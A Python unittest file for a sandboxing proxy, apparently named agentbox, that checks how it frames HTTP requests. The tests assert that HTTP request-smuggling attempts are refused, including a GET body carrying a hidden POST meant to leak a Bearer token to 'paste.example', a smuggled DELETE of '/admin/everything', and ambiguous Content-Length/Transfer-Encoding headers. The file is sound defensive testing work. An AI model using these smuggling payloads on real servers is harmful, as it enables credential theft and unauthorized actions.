"""The framing of requests on a terminated connection (docs/network.md,
"Framing"): the proxy reads each request's head and body itself, forwards
exactly what it judged, refuses what a server could read otherwise, and
sends the next request only after the previous response. The upstream is
Python's http.server, which does not read a GET's body (the "CL.0" class):
a body the proxy relayed unjudged would be read there as the next request.
A raw client inside the sandbox sends bytes as written. Runs as root and
as an unprivileged user; AGENTBOX_BIN names the binary."""

import json
import os
import subprocess
import unittest

from test_secrets import BIN, MUST_WORK, THROUGH, VALUE, Server, WithCA, _Handler

# the client inside: one connection per file through CONNECT, TLS with the
# sandbox's CA, the file's bytes sent at once (@TOKEN@ the placeholder),
# everything read until the proxy closes
CLIENT = r"""
import os, socket, ssl, sys
port = int(sys.argv[1])
for name in sys.argv[2:]:
    data = open(name, "rb").read().replace(b"@TOKEN@", os.environ.get("TOKEN", "").encode())
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (port, port))
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        b = s.recv(1)
        if not b:
            break
        head += b
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    t = ctx.wrap_socket(s, server_hostname="127.0.0.1")
    t.settimeout(8)
    t.sendall(data)
    out = b""
    try:
        while True:
            b = t.recv(65536)
            if not b:
                break
            out += b
    except (OSError, ssl.SSLError) as e:
        out += b"\n[client: %s]" % str(e).encode()
    sys.stdout.write(out.decode(errors="replace") + "\n=====\n")
    sys.stdout.flush()
"""


class _CL0(_Handler):
    """http.server as it is: a GET's (or DELETE's) body is not read, so it
    is taken for the next request on a kept-alive connection. POST reads
    its body (Content-Length or chunked). The answer names the path."""

    def _record(self, body):
        self.server.seen.append({"line": self.requestline, "host": self.headers.get("Host"),
                                 "auth": self.headers.get("Authorization"),
                                 "body": body.decode(errors="replace")})
        if self.path == "/ws" and self.headers.get("Upgrade"):
            # a 101, then another protocol: 4 bytes in, an answer out
            self.send_response(101)
            self.send_header("Upgrade", "echo")
            self.send_header("Connection", "Upgrade")
            self.end_headers()
            self.wfile.flush()
            self.wfile.write(b"pong:" + self.rfile.read(4))
            self.close_connection = True
            return
        out = ("ok " + self.path + "\n").encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    def do_GET(self):
        self._record(b"")

    do_DELETE = do_GET

    def do_POST(self):
        try:
            body = b"" if self.path.startswith("/nobody") else self._body()
        except ValueError:  # a body cut short: no request
            self.close_connection = True
            return
        self._record(body)


class Framing(WithCA):
    def setUp(self):
        super().setUp()
        self.a = Server(self.d, "testca")
        self.a.httpd.RequestHandlerClass = _CL0
        self.addCleanup(self.a.close)
        self.host = "127.0.0.1:%d" % self.a.port
        with open(os.path.join(self.ws, "client.py"), "w") as f:
            f.write(CLIENT)

    def conns(self, net, *requests):
        """Each request's bytes on a connection of its own, through the
        proxy with --net values net; the answers, one per connection."""
        names = []
        for i, data in enumerate(requests):
            name = "req%d" % i
            with open(os.path.join(self.ws, name), "wb") as f:
                f.write(data.replace("@HOST@", self.host).encode())
            names.append("/workspace/" + name)
        args = []
        for v in net:
            args += ["--net", v]
        r = subprocess.run([BIN, "run", "--workspace", self.ws, *THROUGH, *args, "--net",
                            "ca=" + self.ca, "--report", os.path.join(self.ws, "rep.json"),
                            "--", "python3", "/workspace/client.py", str(self.a.port), *names],
                           capture_output=True, timeout=120, env=dict(os.environ, TOKEN=VALUE))
        # bytes: the answers' CRLFs as they came
        r.stdout, r.stderr = r.stdout.decode(errors="replace"), r.stderr.decode(errors="replace")
        if r.returncode == 125 and not MUST_WORK and "cannot" in r.stderr and \
                "--net" not in r.stderr:
            self.skipTest("agentbox cannot run here: " + r.stderr)
        self.assertEqual(r.returncode, 0, r)
        self.assertNotIn(VALUE, r.stdout + r.stderr)
        out = r.stdout.split("\n=====\n")
        self.assertEqual(len(out), len(requests) + 1, r.stdout)
        return out[:-1]

    def denied(self):
        with open(os.path.join(self.ws, "rep.json")) as f:
            return [d["reason"] for d in json.load(f)["network"]["denied"]]

    def secret(self):
        return "secret=TOKEN@" + self.host

    def lines(self):
        return [s["line"] for s in self.a.seen]

    def test_a_get_body_smuggles_no_request_and_no_secret(self):
        # the finding: a GET whose body is a POST to another site, then a
        # request with the secret; a CL.0 server read the body as a request
        # and the next request (the secret substituted) as its body
        smuggled = ("POST /paste HTTP/1.1\r\nHost: paste.example\r\n"
                    "Content-Length: 300\r\n\r\n")
        attack = ("GET /static HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: %d\r\n\r\n%s"
                  "GET /static HTTP/1.1\r\nHost: @HOST@\r\nAuthorization: Bearer @TOKEN@\r\n"
                  "Connection: close\r\n\r\n" % (len(smuggled), smuggled))
        out, = self.conns([self.secret()], attack)
        self.assertTrue(out.startswith("HTTP/1.1 400 "), out)
        self.assertIn("a body on GET", out)
        self.assertEqual(self.lines(), [])
        self.assertFalse(any(VALUE in s["body"] for s in self.a.seen))
        self.assertTrue(any("a body on GET" in x for x in self.denied()), self.denied())

    def test_a_get_body_runs_no_delete(self):
        smuggled = "DELETE /admin/everything HTTP/1.1\r\nHost: @HOST@\r\n\r\n"
        attack = ("GET /static HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: %d\r\n\r\n%s"
                  % (len(smuggled.replace("@HOST@", self.host)), smuggled))
        out, = self.conns(["allow=GET:%s/static" % self.host], attack)
        self.assertTrue(out.startswith("HTTP/1.1 400 "), out)
        self.assertEqual(self.lines(), [])
        # a rule may allow a GET with a body (GET+body): it is forwarded,
        # and its upstream connection ends after the answer, so a server
        # that did not read the body never reads it as a request
        out, = self.conns(["allow=GET+body:%s/static" % self.host], attack)
        self.assertTrue(out.startswith("HTTP/1.1 200 "), out)
        self.assertIn("Connection: close\r\n", out)
        self.assertEqual(self.lines(), ["GET /static HTTP/1.1"])

    def test_a_chunked_body_is_forwarded_intact(self):
        body = ("5;ext=1\r\nhello\r\n7\r\n, world\r\n1a\r\n" + "x" * 26 + "\r\n0\r\n\r\n")
        req = ("POST /up HTTP/1.1\r\nHost: @HOST@\r\nTransfer-Encoding: chunked\r\n"
               "Authorization: Bearer @TOKEN@\r\n\r\n" + body)
        out, = self.conns([self.secret()], req)
        self.assertTrue(out.startswith("HTTP/1.1 200 "), out)
        self.assertTrue(out.endswith("ok /up\n"), out)
        self.assertEqual([(s["line"], s["body"], s["auth"]) for s in self.a.seen],
                         [("POST /up HTTP/1.1", "hello, world" + "x" * 26, "Bearer " + VALUE)])

    def test_a_large_body_waits_for_100_continue(self):
        # curl sends a body over 1 MiB after "Expect: 100-continue": the
        # interim answer passes while the body has not gone up yet
        with open(os.path.join(self.ws, "big"), "wb") as f:
            f.write(b"y" * (3 << 20))
        r = subprocess.run([BIN, "run", "--workspace", self.ws, *THROUGH, "--net", self.secret(),
                            "--net", "ca=" + self.ca, "--", "sh", "-c",
                            "curl -sS -v -m 30 -w '%{http_code}\\n' --data-binary @/workspace/big "
                            "-H \"Authorization: Bearer $TOKEN\" https://" + self.host + "/up"],
                           capture_output=True, text=True, timeout=120,
                           env=dict(os.environ, TOKEN=VALUE))
        self.assertTrue(r.stdout.endswith("ok /up\n200\n"), r)
        self.assertIn("Expect: 100-continue", r.stderr)
        self.assertIn("< HTTP/1.1 100 Continue", r.stderr)
        self.assertEqual([(s["line"], len(s["body"]), s["auth"]) for s in self.a.seen],
                         [("POST /up HTTP/1.1", 3 << 20, "Bearer " + VALUE)])

    def test_ambiguous_framing_is_refused(self):
        bad = [
            # Content-Length and Transfer-Encoding
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: 4\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            # two different lengths, a list, a sign
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: 1, 1\r\n\r\na",
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: +1\r\n\r\na",
            # a coding before chunked, chunked twice
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nTransfer-Encoding: chunked\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            # a space before the colon, a folded line, a bare CR, a bare LF
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nContent-Length : 1\r\n\r\na",
            "GET /a HTTP/1.1\r\nHost: @HOST@\r\nX: a\r\n b\r\n\r\n",
            "GET /a HTTP/1.1\r\nHost: @HOST@\r\nX: a\rb\r\n\r\n",
            "GET /a HTTP/1.1\r\nHost: @HOST@\nX: a\r\n\r\n",
            # a broken chunk size
            "POST /a HTTP/1.1\r\nHost: @HOST@\r\nTransfer-Encoding: chunked\r\n\r\n5 x\r\nhello"
            "\r\n0\r\n\r\n",
            # a wrong Host
            "GET /a HTTP/1.1\r\nHost: paste.example\r\n\r\n",
        ]
        outs = self.conns([self.secret()], *bad)
        for req, out in zip(bad, outs):
            self.assertTrue(out.startswith("HTTP/1.1 400 "), (req, out))
        self.assertIn("both Content-Length and Transfer-Encoding", outs[0])
        self.assertIn("the Host header names another host", outs[-1])
        # the broken chunk size: the head went out, its body was cut
        self.assertEqual(self.lines(), [])
        self.assertGreaterEqual(len(self.denied()), 1)

    def test_pipelined_requests_are_each_judged_and_answered_in_order(self):
        two = ("GET /static/a HTTP/1.1\r\nHost: @HOST@\r\nAuthorization: Bearer @TOKEN@\r\n\r\n"
               "GET /static/b HTTP/1.1\r\nHost: @HOST@\r\nAuthorization: Bearer @TOKEN@\r\n"
               "Connection: close\r\n\r\n")
        out, = self.conns([self.secret()], two)
        self.assertEqual(out.count("HTTP/1.1 200 "), 2, out)
        self.assertLess(out.index("ok /static/a\n"), out.index("ok /static/b\n"), out)
        self.assertEqual([(s["line"], s["auth"]) for s in self.a.seen],
                         [("GET /static/a HTTP/1.1", "Bearer " + VALUE),
                          ("GET /static/b HTTP/1.1", "Bearer " + VALUE)])
        # the second is judged on its own: its method and its Host
        self.a.seen.clear()
        out, = self.conns(["allow=GET:%s/static" % self.host],
                          "GET /static/a HTTP/1.1\r\nHost: @HOST@\r\n\r\n"
                          "DELETE /static/a HTTP/1.1\r\nHost: @HOST@\r\n\r\n"
                          "GET /static/c HTTP/1.1\r\nHost: @HOST@\r\n\r\n")
        self.assertTrue(out.startswith("HTTP/1.1 200 "), out)
        self.assertIn("ok /static/a\nHTTP/1.1 403 ", out)
        self.assertNotIn("/static/c", out)
        self.assertEqual(self.lines(), ["GET /static/a HTTP/1.1"])
        self.a.seen.clear()
        out, = self.conns([self.secret()],
                          "GET /static/a HTTP/1.1\r\nHost: @HOST@\r\n\r\n"
                          "GET /static/b HTTP/1.1\r\nHost: paste.example\r\n"
                          "Authorization: Bearer @TOKEN@\r\n\r\n")
        self.assertIn("ok /static/a\nHTTP/1.1 400 ", out)
        self.assertEqual(self.lines(), ["GET /static/a HTTP/1.1"])

    def test_a_body_ends_the_upstream_connection(self):
        # a POST the server answers without reading its body cannot leave
        # that body behind as a request: the connection ends after it
        smuggled = "DELETE /admin/everything HTTP/1.1\r\nHost: @HOST@\r\n\r\n"
        n = len(smuggled.replace("@HOST@", self.host))
        out, = self.conns([self.secret()],
                          "POST /nobody HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: %d\r\n\r\n%s"
                          "GET /y HTTP/1.1\r\nHost: @HOST@\r\n\r\n" % (n, smuggled))
        self.assertTrue(out.startswith("HTTP/1.1 200 "), out)
        self.assertIn("Connection: close\r\n", out)
        self.assertEqual(out.count("HTTP/1.1 "), 1, out)
        self.assertEqual(self.lines(), ["POST /nobody HTTP/1.1"])

    def test_an_upgrade_is_relayed_after_its_101(self):
        out, = self.conns([self.secret()],
                          "GET /ws HTTP/1.1\r\nHost: @HOST@\r\nUpgrade: echo\r\n"
                          "Connection: Upgrade\r\nAuthorization: Bearer @TOKEN@\r\n\r\nping")
        self.assertTrue(out.startswith("HTTP/1.1 101 "), out)
        self.assertTrue(out.endswith("\r\n\r\npong:ping"), out)
        self.assertEqual([(s["line"], s["auth"]) for s in self.a.seen],
                         [("GET /ws HTTP/1.1", "Bearer " + VALUE)])

    def test_plain_http_to_a_host_with_rules_is_framed_too(self):
        plain = Server()
        plain.httpd.RequestHandlerClass = _CL0
        self.addCleanup(plain.close)
        u = "http://127.0.0.1:%d/static" % plain.port
        curl = "curl -sS -m 20 -w ' %{http_code}\\n' "
        r = subprocess.run([BIN, "run", "--workspace", self.ws, *THROUGH, "--net",
                            "allow=GET:127.0.0.1:%d/static" % plain.port, "--report",
                            os.path.join(self.ws, "rep.json"), "--", "sh", "-c",
                            curl + u + "; " + curl + "-X GET -d 'DELETE /x HTTP/1.1' " + u + "; "
                            + curl + "-H 'Content-Length: 1' -H 'Content-Length: 2' -X GET "
                            "-d a " + u],
                           capture_output=True, text=True, timeout=120)
        codes = [line.rsplit(" ", 1)[-1] for line in r.stdout.splitlines() if line[-3:].isdigit()]
        self.assertEqual(codes, ["200", "400", "400"], r)
        self.assertIn("a body on GET is refused", r.stdout)
        self.assertEqual([s["line"] for s in plain.seen], ["GET /static HTTP/1.1"])
        self.assertTrue(any("a body on GET is refused" in x for x in self.denied()),
                        self.denied())


if __name__ == "__main__":
    unittest.main()
